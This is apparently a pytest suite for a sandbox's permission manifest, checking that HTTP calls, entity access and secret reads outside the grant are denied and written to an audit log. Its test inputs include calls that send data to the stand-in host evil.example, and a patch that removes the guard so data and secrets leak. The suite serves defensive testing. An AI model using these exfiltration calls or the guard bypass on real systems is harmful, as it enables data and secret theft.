"""What the manifest does not grant is refused, recorded, and has no effect: seen from outside of the product."""

from __future__ import annotations

import json

import pytest

from policies.permissions import Decision, PermissionSet

GRANTED = {
    "http": ["https://api.acme.example/*"],
    "entities": {"Invoice": ["read"], "Payment": ["write"]},
    "secrets": {"api_key": ["read"]},
}

DENIALS = [
    ('Http.get(["https:/", "evil.example", "x"].join("/"))', "unknown_host", "evil.example"),
    ('Http.post(["https:/", "evil.example", "x"].join("/"), { all: "data" })', "unknown_host", "evil.example"),
    ('Http.get(["https:/", "api.acme.example.evil.example", "x"].join("/"))', "unknown_host", "evil.example"),
    ('Http.get(["https:/", "127.0.0.1", "x"].join("/"))', "private_address", "127.0.0.1"),
    ('Http.get(["http:/", "api.acme.example", "x"].join("/"))', "url_grammar", "https"),
    ('Customer.query({})', "unknown_entity", "Customer"),
    ('Customer.get("c1")', "unknown_entity", "Customer"),
    ('Customer.create({ name: "Eve" })', "unknown_entity", "Customer"),
    ('Invoice.create({ memo: "x" })', "write_not_granted", "Invoice"),
    ('Invoice.delete("i1")', "write_not_granted", "Invoice"),
    ('Payment.query({})', "read_not_granted", "Payment"),
    ('Payment.count({})', "read_not_granted", "Payment"),
    ('Invoice.query({ include: ["customer"] })', "unknown_entity", "Customer"),
    ('ingest.canonical("customer", { id: "c1" }, { stream: "s", idempotencyKey: "k" })', "unknown_entity", "Customer"),
    ('Secrets.get("webhook_secret")', "unknown_secret", "webhook_secret"),
    ('Secrets.set("webhook_secret", "mine now")', "unknown_secret", "webhook_secret"),
    ('Secrets.set("api_key", "mine now")', "write_not_granted", "api_key"),
    ('Secrets.delete("api_key")', "write_not_granted", "api_key"),
]  # fmt: skip


def allow(self, call) -> Decision:
    return Decision(True, "always", "the guard is gone")


@pytest.mark.parametrize(("call", "rule", "about"), DENIALS)
def test_what_is_not_granted_is_refused_and_recorded(
    invoke, backfill, guest, provider, state, call, rule, about
):
    path = guest(f"return {call};", permissions=GRANTED)
    options = [
        *provider.answers("evil.example", "api.acme.example"),
        "--secret",
        "webhook_secret=whsec_12345678",
    ]
    report = invoke(path, "POST /run", *options, "--state", state)
    assert (report["error"]["name"], report["error"]["code"]) == ("PermissionDenied", "permission_denied")
    assert about in report["error"]["message"]
    [made] = report["calls"]
    assert (made["decision"], made["rule"], made["outcome"]) == ("deny", rule, "error")
    assert made["reason"] == report["error"]["message"]
    assert report["writes"] == [] and provider.connections == 0
    exported = [json.loads(line) for line in backfill("audit", "export", "--state", state).out.splitlines()]
    [decision] = [each for each in exported if each.get("decision") == "deny"]
    assert (decision["rule"], decision["reason"]) == (rule, made["reason"])


def test_a_guest_may_catch_a_denial_and_go_on(invoke, guest):
    body = 'try { Customer.get("c1"); } catch (e: any) { return [e.name, e.code]; }'
    report = invoke(guest(body, permissions=GRANTED), "POST /run")
    assert report["response"]["body"] == ["PermissionDenied", "permission_denied"]


def test_a_secret_that_is_not_granted_sounds_the_same_whether_it_exists_or_not(invoke, guest):
    path = guest('return Secrets.get("webhook_secret");', permissions=GRANTED)
    there = invoke(path, "POST /run", "--secret", "webhook_secret=whsec_12345678")
    absent = invoke(path, "POST /run")
    assert there["error"]["message"] == absent["error"]["message"]
    assert there["calls"][0]["reason"] == absent["calls"][0]["reason"]


@pytest.mark.parametrize(
    ("capability", "call"),
    [
        ("ingest", 'ingest.canonical("customer", { id: "c1" }, { stream: "s", idempotencyKey: "k" })'),
        ("sync", 'sync.getCheckpoint("customers")'),
        ("oauth", "OAuth.accessToken()"),
    ],
)
def test_what_only_connectors_have_is_not_available_in_an_extension(invoke, project, capability, call):
    source = f"export const POST = api(async () => {call});\n"
    permissions = {"entities": {"Customer": ["write"]}}
    path = project({"src/api/run.ts": source}, connector=False, permissions=permissions)
    report = invoke(path, "POST /run")
    assert report["error"]["name"] == "NotAvailable" and capability in report["error"]["message"]
    assert [(made["capability"], made["decision"]) for made in report["calls"]] == [(capability, "deny")]


HTTP_CALL = 'return Http.post(["https:/", "evil.example", "x"].join("/"), { all: "data" }).body;'


def test_a_granted_host_is_reached(invoke, guest, provider):
    path = guest(HTTP_CALL, permissions={"http": ["https://evil.example/*"]})
    report = invoke(path, "POST /run", *provider.answers("evil.example"))
    assert report["response"]["body"]["answered"] is True
    [(method, where, headers, body)] = provider.requests
    assert (method, where, headers["host"], json.loads(body)) == (
        "POST",
        "/x",
        "evil.example",
        {"all": "data"},
    )


def test_without_the_guard_the_data_leaves(invoke, guest, provider, monkeypatch):
    monkeypatch.setattr(PermissionSet, "decide", allow)
    report = invoke(guest(HTTP_CALL, permissions=GRANTED), "POST /run", *provider.answers("evil.example"))
    assert report["ok"]
    assert json.loads(provider.requests[0][3]) == {"all": "data"}


@pytest.mark.parametrize(
    ("call", "expected"),
    [
        ("Customer.query({})[0].name", "Ada"),
        ('Customer.create({ name: "Eve" }).name', "Eve"),
        ("Payment.count({})", 0),
        ('Secrets.get("webhook_secret")', "whsec_12345678"),
    ],
)
def test_without_the_guard_records_and_secrets_are_there_to_take(
    invoke, guest, tmp_path, monkeypatch, call, expected
):
    records = tmp_path / "records.json"
    records.write_text('{"Customer": [{"id": "c1", "name": "Ada"}]}')
    options = ["--records", records, "--secret", "webhook_secret=whsec_12345678"]
    path = guest(f"const seen: any = {call}; return [seen].join('-').split('');", permissions=GRANTED)
    assert invoke(path, "POST /run", *options)["error"]["name"] == "PermissionDenied"
    monkeypatch.setattr(PermissionSet, "decide", allow)
    assert "".join(invoke(path, "POST /run", *options)["response"]["body"]) == str(expected)
